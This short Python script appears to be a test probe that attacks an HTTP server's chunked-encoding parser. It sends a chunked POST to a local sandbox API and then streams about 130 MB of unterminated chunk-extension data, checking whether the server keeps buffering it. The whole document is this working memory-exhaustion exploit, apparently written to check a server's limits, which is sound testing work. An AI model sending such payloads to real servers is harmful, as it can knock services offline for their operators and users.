# aim: have the server hold more than it may
# mechanism: extensions of a chunk without end, which are no body
# server: body
# plain: naive

def attack():
    with line() as held:
        held.send(f"POST /v1/sandboxes HTTP/1.1\r\nHost: localhost\r\nX-API-Key: {mine.key}\r\nTransfer-Encoding: chunked\r\n\r\n1;".encode())
        taken = held.flood(b"x" * 65536, 2000)
    return taken and "130 MB of extensions were taken"


judge(attack)
